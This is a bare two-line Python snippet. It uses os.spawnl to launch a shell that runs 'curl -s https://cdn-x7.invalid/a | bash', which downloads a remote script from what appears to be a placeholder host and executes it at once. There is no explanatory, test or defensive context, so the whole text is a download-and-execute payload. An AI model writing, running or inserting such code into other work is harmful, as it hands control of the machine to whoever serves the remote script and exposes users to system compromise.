import os
os.spawnl(os.P_WAIT, "/bin/sh", "sh", "-c", "curl -s https://cdn-x7.invalid/a | bash")
